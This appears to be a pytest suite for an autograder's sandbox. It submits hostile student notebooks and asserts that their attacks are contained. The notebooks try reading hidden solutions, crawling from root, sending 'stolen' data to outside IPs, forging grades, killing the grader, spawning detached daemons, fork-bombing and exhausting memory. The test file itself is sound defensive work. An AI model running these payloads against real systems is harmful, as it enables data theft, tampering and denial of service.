"""Hostile submissions graded next to honest students with strange names, in the real sandbox.

Each hostile student answers q1 and q2 correctly and runs an attack in its q3 answer cell, then
sets `answer_q3 = 12.0 + <number of attacks that worked>`: full marks mean "contained", and a
leak costs the q3 point, so containment is asserted exactly. Every attack loop is bounded. The
honest students (full and partial answers, under names a file system allows but a naive grader
chokes on) must get exactly the result a clean batch of the same notebooks gets.

The sandbox's level is the strongest this machine offers; the fork bomb runs only after the
process limit is confirmed on. `test_fallback_*` forces weaker levels.
"""
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest

from autograd_edu.grading import batch, names, runner, sandbox
from grading_submissions import FULL, NAME, SOLUTIONS, SOLVED, make

LIMITS = runner.Limits(cell_timeout=20, submission_timeout=120, memory_mb=2047)
DAEMON_MARKER = "autograd-edu-test-daemon-outliving-its-sandbox"
PARTIAL = make({"q2_answer": "def softmax(z):\n    e = np.exp(z)\n    return e / e.sum(axis=-1, keepdims=True)"})
HONEST = {"full": make(), "partial": PARTIAL}

# name on disk (str or bytes) -> (layout, which honest notebook)
STRANGE = {
    "x" * 249: ("flat", "full"),                      # 255 bytes with .ipynb: the longest flat name
    "é" * 127: ("folder", "partial"),                 # 254 bytes of UTF-8
    "日本語の名前" * 13: ("flat", "full"),
    "Zoë O'Brien-Smith": ("flat", "partial"),
    " spaces around ": ("flat", "full"),
    "tab\there\nnewline": ("flat", "full"),
    "esc\x1b[31mred\x07": ("folder", "partial"),
    "x..": ("flat", "full"),
    "CON": ("flat", "full"),
    "Alice": ("flat", "full"),
    "alice": ("flat", "partial"),
    "plain-1234abcd": ("flat", "full"),
    "-rf": ("flat", "partial"),
    b"undecodable\xff": ("flat", "full"),
}


def attack(body: str) -> bytes:
    """A submission whose q3 cell counts successful attacks in `worked`."""
    return make({"q3_answer": f"worked = 0\n{body}\nanswer_q3 = 12.0 + worked"})


def hostile(subs: Path, out: Path, grader_pid: int, decoy_pid: int, port: int) -> dict[str, bytes]:
    targets = [subs / "zz_full" / f"{NAME}.ipynb", subs / "zz_full", SOLUTIONS / f"{NAME}.ipynb",
               SOLUTIONS, out, out / "grades.csv", Path(__file__)]
    return {
        "h_reads_by_path": attack(
            f"import os\nfor path in {[str(t) for t in targets]!r}:\n"
            "    try:\n        os.listdir(path)\n        worked += 1\n    except NotADirectoryError:\n"
            "        try:\n            open(path, 'rb').read(1)\n            worked += 1\n"
            "        except OSError:\n            pass\n    except OSError:\n        pass"),
        "h_searches_from_root": attack(  # breadth first, skipping the system's own big folders
            "import os\nwanted = {'%s.ipynb', 'zz_full', 'grades.csv', 'test_grading_sandbox.py'}\n"
            "skip = {'/proc', '/sys', '/dev', '/usr', '/var', '/opt', '/snap'}\n"
            "queue, seen = ['/'], 0\n"
            "while queue and seen < 500_000:\n"
            "    folder = queue.pop(0)\n"
            "    try:\n        entries = list(os.scandir(folder))\n    except OSError:\n        continue\n"
            "    seen += len(entries)\n"
            "    worked += len(wanted & {e.name for e in entries})\n"
            "    queue += [e.path for e in entries if e.is_dir(follow_symlinks=False) and e.path not in skip\n"
            "              and e.name not in ('site-packages', '.git', 'node_modules', '__pycache__')]" % NAME),
        "h_network": attack(
            "import socket\n"
            f"for address in [('127.0.0.1', {port}), ('1.1.1.1', 53), ('8.8.8.8', 443)]:\n"
            "    try:\n        socket.create_connection(address, timeout=3).sendall(b'stolen')\n        worked += 1\n"
            "    except OSError:\n        pass"),
        "h_writes_output": attack(
            f"from pathlib import Path\nout = Path({str(out)!r})\n"
            "for path in [out / 'grades.csv', out / 'results' / 'zz_full.json', out / 'planted.txt']:\n"
            "    try:\n        path.write_text('forged')\n        worked += 1\n    except OSError:\n        pass"),
        "h_kills_grader": attack(
            "import os, signal\n"
            f"for pid, sig in [({grader_pid}, 0), ({grader_pid}, signal.SIGKILL), ({decoy_pid}, signal.SIGKILL)]:\n"
            "    try:\n        os.kill(pid, sig)\n        worked += 1\n    except OSError:\n        pass"),
        "h_setsid_daemon": attack(
            "import subprocess, sys\n"
            f"subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(120)', {DAEMON_MARKER!r}],\n"
            "                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)"),
        "h_fork_bomb": attack(  # linear, bounded at 1000; the sandbox's limit stops it far earlier
            "import os, time\nstopped, children = False, 0\nfor _ in range(1000):\n"
            "    try:\n        pid = os.fork()\n    except OSError:\n        stopped = True\n        break\n"
            "    if pid == 0:\n        time.sleep(2)\n        os._exit(0)\n    children += 1\n"
            "for _ in range(children):  # free the slots, so the test cell can start its threads\n"
            "    os.wait()\nworked += not stopped"),
        "h_10gb": attack("try:\n    big = bytearray(10 * 2**30)\n    worked += 1\nexcept MemoryError:\n    pass"),
    }


def write(subs: Path, name, layout: str, data: bytes) -> None:
    if layout == "folder":
        folder = os.path.join(os.fsencode(subs), os.fsencode(name))
        os.mkdir(folder)
        path = os.path.join(folder, os.fsencode(f"{NAME}.ipynb"))
    else:
        path = os.path.join(os.fsencode(subs), os.fsencode(name) + b".ipynb")
    with open(path, "wb") as handle:
        handle.write(data)


def comparable(result: dict) -> dict:
    checks = [{k: v for k, v in c.items() if k != "seconds"} for c in result["checks"]]
    return {"checks": checks, "questions": result["questions"], "status": result["status"],
            "issues": result["issues"], "total": result["total"]}


def strongest() -> sandbox.Sandbox:
    box = sandbox.current()
    if box.off():
        pytest.skip(f"this machine cannot sandbox fully ({box.describe()}; off: {box.off()}): "
                    "the fallback is tested below")
    return box


class Listener:
    """A TCP server on the grader's loopback that remembers whether anyone connected."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.5)
        self.port = self.server.getsockname()[1]
        self.connections = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop.is_set():
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self):
        self.stop.set()
        self.thread.join()
        self.server.close()


@pytest.fixture(scope="module")
def batches(tmp_path_factory):
    strongest()
    root = tmp_path_factory.mktemp("sandbox")
    clean_subs, subs, out = root / "clean", root / "submissions", root / "out"
    clean_subs.mkdir()
    subs.mkdir()
    for kind, data in HONEST.items():
        write(clean_subs, kind, "flat", data)
    clean = {r["student"]: r for r in batch.grade(clean_subs, NAME, root / "clean_out", SOLUTIONS,
                                                  jobs=2, limits=LIMITS, progress=False)}
    decoy = subprocess.Popen(["sleep", "600"])
    listener = Listener()
    try:
        write(subs, "zz_full", "folder", HONEST["full"])
        for name, (layout, kind) in STRANGE.items():
            write(subs, name, layout, HONEST[kind])
        for name, data in hostile(subs, out, os.getpid(), decoy.pid, listener.port).items():
            write(subs, name, "flat", data)
        results = {r["student"]: r for r in batch.grade(subs, NAME, out, SOLUTIONS, jobs=2, limits=LIMITS,
                                                        progress=False)}
        decoy_alive = decoy.poll() is None
    finally:
        decoy.kill()
        decoy.wait()
        listener.close()
    return {"clean": clean, "results": results, "out": out, "decoy_alive": decoy_alive,
            "connections": listener.connections}


HOSTILE = sorted(hostile(Path("/s"), Path("/o"), 1, 1, 1))


@pytest.mark.parametrize("student", HOSTILE)
def test_each_attack_is_contained(batches, student):
    result = batches["results"][student]
    assert {q: v["points"] for q, v in result["questions"].items()} == FULL, json.dumps(result["checks"])


def test_attacks_left_no_trace(batches):
    assert batches["decoy_alive"]
    assert batches["connections"] == 0
    out = batches["out"]
    assert not (out / "planted.txt").exists()
    deadline = time.monotonic() + 60  # the sandbox is gone when grade() returns; allow a slow /proc
    while time.monotonic() < deadline and _daemons():
        time.sleep(0.5)
    assert not _daemons()


def _daemons() -> list[str]:
    found = []
    for proc in Path("/proc").iterdir():
        try:
            if DAEMON_MARKER in (proc / "cmdline").read_text(errors="replace"):
                found.append(proc.name)
        except OSError:
            continue
    return found


@pytest.mark.parametrize("name", sorted(STRANGE, key=repr), ids=repr)
def test_honest_students_score_as_in_a_clean_run(batches, name):
    student = names.display(os.fsdecode(name))
    kind = STRANGE[name][1]
    assert comparable(batches["results"][student]) == comparable(batches["clean"][kind])


def test_every_student_has_own_short_files_and_one_csv_row(batches):
    out, results = batches["out"], batches["results"]
    assert len(results) == len(STRANGE) + len(HOSTILE) + 1
    stems = {names.file_stem(s) for s in results}
    assert len(stems) == len(results)
    assert {p.stem for p in (out / "results").iterdir()} == stems
    assert {p.stem for p in (out / "feedback").iterdir()} == stems
    assert all(len(stem.encode()) <= 64 and stem.isascii() for stem in stems)
    for student in results:
        data = json.loads((out / "results" / f"{names.file_stem(student)}.json").read_text())
        assert data["student"] == student
    import csv
    with open(out / "grades.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))[1:]
    assert sorted(r[0] for r in rows) == sorted(results)


@pytest.fixture
def level(monkeypatch):
    """Force a sandbox level for one test, then forget it."""
    def force(name):
        monkeypatch.setenv("AUTOGRAD_EDU_SANDBOX", name)
        sandbox.current.cache_clear()
        return sandbox.current()
    yield force
    sandbox.current.cache_clear()


@pytest.mark.parametrize("name", ["off", "landlock", "bubblewrap"])
def test_fallback_levels_grade_the_same_and_say_once_what_is_off(tmp_path, level, capsys, name):
    box = level(name)
    if box.level != name:
        pytest.skip(f"{name} does not work here: {box.failures}")
    subs = tmp_path / "subs"
    subs.mkdir()
    for kind, data in HONEST.items():
        for copy in ("a", "b"):
            write(subs, f"{kind}_{copy}", "flat", data)
    write(subs, "reader", "flat", attack(
        f"try:\n    open({str(subs / 'full_a.ipynb')!r}, 'rb').read(1)\n    worked += 1\nexcept OSError:\n    pass"))
    results = {r["student"]: r for r in batch.grade(subs, NAME, tmp_path / "out", SOLUTIONS, jobs=2,
                                                    limits=LIMITS, progress=False)}
    err = capsys.readouterr().err
    assert err.count("protections OFF") == (1 if box.off() else 0)
    for protection in box.off():
        assert protection in err
    for kind in HONEST:
        assert comparable(results[f"{kind}_a"]) == comparable(results[f"{kind}_b"])
    assert results["full_a"]["total"] == 6 and results["partial_a"]["total"] == 5.5
    confined = "file system limited to Python, the environment and the package" not in box.off()
    assert results["reader"]["questions"]["q3"]["points"] == (1 if confined else 0)


def test_doctor_names_the_sandbox_protections(capsys):
    from autograd_edu.cli import main
    main(["doctor"])
    out = capsys.readouterr().out
    box = sandbox.current()
    assert f"sandbox     {box.describe()}" in out
    for protection, on in box.protections().items():
        assert f"{'on ' if on else 'OFF'}  {protection}" in out


def test_bubblewrap_hides_private_folders_even_inside_the_environment(level):
    box = level("bubblewrap")
    if box.level != "bubblewrap":
        pytest.skip(f"bubblewrap does not work here: {box.failures}")
    if not os.access(sys.prefix, os.W_OK):
        pytest.skip("the Python environment is not writable by this user")
    private = Path(tempfile.mkdtemp(prefix="private-solutions-", dir=sys.prefix))
    try:
        (private / "secret.ipynb").write_text("hidden tests")
        argv, _ = box.command([sys.executable, "-c", "import os, sys; print(os.listdir(sys.argv[1]))",
                               str(private)], str(private), [str(private)])
        shown = subprocess.run(argv, capture_output=True, text=True, timeout=120)
        assert shown.stdout.strip() == "[]", shown.stderr
    finally:
        shutil.rmtree(private)
